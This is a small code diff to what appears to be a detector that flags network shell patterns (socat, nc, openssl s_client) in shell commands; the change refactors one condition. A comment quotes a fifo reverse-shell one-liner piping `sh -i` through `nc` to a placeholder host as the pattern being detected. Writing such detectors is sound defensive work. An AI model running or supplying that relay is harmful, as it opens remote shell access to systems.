@@ -102,7 +102,8 @@ def network_shell(subject: CommandSubject, tables: Tables) -> Iterator[Hit]:
             yield Hit(arg.span, "socat connects a socket to a program")
         if exec_addresses:
             return
-    if (name != "openssl" or args[:1] and args[0].value == "s_client") and _fed_by_interpreter(subject, tables):
+    connects = name != "openssl" or (bool(args) and args[0].value == "s_client")
+    if connects and _fed_by_interpreter(subject, tables):
         # The fifo relay: `cat f | sh -i 2>&1 | nc HOST PORT > f`.
         yield Hit(subject.span, f"a shell's output is sent through `{name}`")
 
